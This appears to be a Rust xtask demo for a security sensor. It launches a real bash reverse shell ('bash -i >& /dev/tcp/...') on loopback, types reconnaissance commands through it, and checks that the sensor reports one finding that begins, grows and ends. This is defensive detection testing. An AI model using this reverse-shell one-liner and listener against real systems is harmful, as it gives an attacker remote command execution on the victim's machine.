//! `cargo xtask demo`: a real reverse shell on loopback, and what the sensor makes of it.

use std::{
    cell::RefCell,
    collections::BTreeSet,
    io::{ErrorKind, Read as _, Write as _},
    net::{Ipv4Addr, Shutdown, TcpListener, TcpStream},
    process::{Child, Command, Stdio},
    time::{Duration, Instant},
};

use anyhow::{Context, Result, bail, ensure};

use crate::{
    sensor::{Line, PATIENCE, Sensor},
    setup, workspace,
};

/// What is typed into the shell, and a part of each answer that only a shell can give.
const COMMANDS: [(&str, &str); 4] = [
    ("id", "uid="),
    ("uname -s -r", "Linux"),
    ("ls -d /etc /usr", "/usr"),
    ("cat /proc/self/comm; echo $((6 * 7))", "42"),
];

/// Plays it through. Succeeds only if the shell answered, and there was one finding that began, grew and ended.
pub(crate) fn run() -> Result<()> {
    setup::run(false)?;
    let path = workspace::build_sensor(true)?;
    say("starting the sensor");
    let sensor = Sensor::start(&path)?;
    let seen = RefCell::new(BTreeSet::new());
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).context("no port on loopback")?;
    let port = listener.local_addr()?.port();
    // A real intruder's shell, if there is one, is not what is shown here.
    let note = |line: &Line| {
        if line.has_port(port) {
            seen.borrow_mut().insert(line.id().to_owned());
            show(line);
        }
    };
    let attack = format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1");
    say(&format!("the victim runs: {attack}"));
    let mut victim = Victim(
        Command::new("bash")
            .args(["-c", &attack])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .context("bash can't be started")?,
    );
    let mut peer = Peer(accept(&listener)?);

    let first = sensor.wait_for("the first finding", note, |line| line.has_port(port))?;
    note(&first);
    ensure!(
        !first.is_over(),
        "the finding's first state is {}, not ACTIVE",
        first.text("/state")
    );

    for (command, answer) in COMMANDS {
        say(&format!("the attacker types: {command}"));
        let line = peer.ask(command, answer)?;
        println!("        answer: {line}");
    }
    let about_it = |line: &Line| line.id() == first.id();
    let grown = sensor.wait_for("an update of the finding", note, |line| {
        about_it(line) && line.commands() > first.commands()
    })?;
    note(&grown);

    say("the attacker leaves");
    peer.0.write_all(b"exit\n").context("the shell takes no more input")?;
    peer.0.shutdown(Shutdown::Write).ok();
    victim.wait()?;
    drop(peer);
    let last = sensor.wait_for("the end of the finding", note, |line| about_it(line) && line.is_over())?;
    note(&last);
    sensor.end(note)?;

    let seen = seen.into_inner();
    ensure!(
        seen.len() == 1,
        "one shell, but {} findings: {}",
        seen.len(),
        Vec::from_iter(seen).join(", ")
    );
    say(&format!(
        "one shell, one finding: it began with {} command(s), grew to {}, and ended",
        first.commands(),
        last.commands()
    ));
    Ok(())
}

fn say(text: &str) {
    println!("[demo] {text}");
}

fn show(line: &Line) {
    let (severity, state) = (line.text("/severity"), line.text("/state"));
    println!("[sensor] {severity} {state}, {} command(s) so far", line.commands());
    println!("        {}", printable(line.text("/description")));
    for process in line
        .value("/processes")
        .and_then(|list| list.as_array())
        .into_iter()
        .flatten()
        .take(1)
    {
        let text = |pointer| {
            process
                .pointer(pointer)
                .and_then(|value| value.as_str())
                .unwrap_or_default()
        };
        println!("        {} (process {})", printable(text("/binary/path")), text("/pid"));
    }
}

/// Without what would move the cursor: everything here comes from a process that is not to be trusted.
fn printable(text: &str) -> String {
    text.chars()
        .map(|character| if character.is_control() { '?' } else { character })
        .collect()
}

/// The process that is attacked. It does not outlive the demonstration.
struct Victim(Child);

impl Victim {
    fn wait(&mut self) -> Result<()> {
        let end = Instant::now() + PATIENCE;
        while self.0.try_wait()?.is_none() {
            ensure!(Instant::now() < end, "the shell did not end after `exit`");
            std::thread::sleep(Duration::from_millis(5));
        }
        Ok(())
    }
}

impl Drop for Victim {
    fn drop(&mut self) {
        // Most often it has ended already.
        self.0.kill().ok();
        self.0.wait().ok();
    }
}

/// The attacker's end of the connection.
struct Peer(TcpStream);

impl Peer {
    /// Types `command` and waits for a line of the answer that contains `expected`.
    fn ask(&mut self, command: &str, expected: &str) -> Result<String> {
        self.0
            .write_all(format!("{command}\n").as_bytes())
            .context("the shell takes no input")?;
        let end = Instant::now() + PATIENCE;
        let mut text = Vec::new();
        loop {
            let answer = String::from_utf8_lossy(&text);
            // An interactive bash echoes the command after its prompt.
            let mut lines = answer.split_inclusive('\n').filter(|line| line.ends_with('\n'));
            if let Some(line) = lines.find(|line| line.contains(expected) && !line.trim_end().ends_with(command)) {
                return Ok(printable(line.trim()));
            }
            ensure!(
                Instant::now() < end,
                "the shell did not answer `{command}`; it said: {}",
                printable(&answer)
            );
            let mut block = [0; 4096];
            match self.0.read(&mut block) {
                Ok(0) => bail!("the shell ended instead of answering `{command}`"),
                Ok(length) => text.extend_from_slice(block.get(..length).unwrap_or_default()),
                Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {}
                Err(error) => return Err(error).context("reading the shell's answer"),
            }
        }
    }
}

fn accept(listener: &TcpListener) -> Result<TcpStream> {
    listener.set_nonblocking(true)?;
    let end = Instant::now() + PATIENCE;
    loop {
        match listener.accept() {
            Ok((stream, _)) => {
                stream.set_nonblocking(false)?;
                stream.set_read_timeout(Some(Duration::from_millis(100)))?;
                return Ok(stream);
            }
            Err(error) if error.kind() == ErrorKind::WouldBlock => {}
            Err(error) => return Err(error).context("waiting for the shell"),
        }
        ensure!(
            Instant::now() < end,
            "the shell did not connect: does this bash know /dev/tcp?"
        );
        std::thread::sleep(Duration::from_millis(5));
    }
}
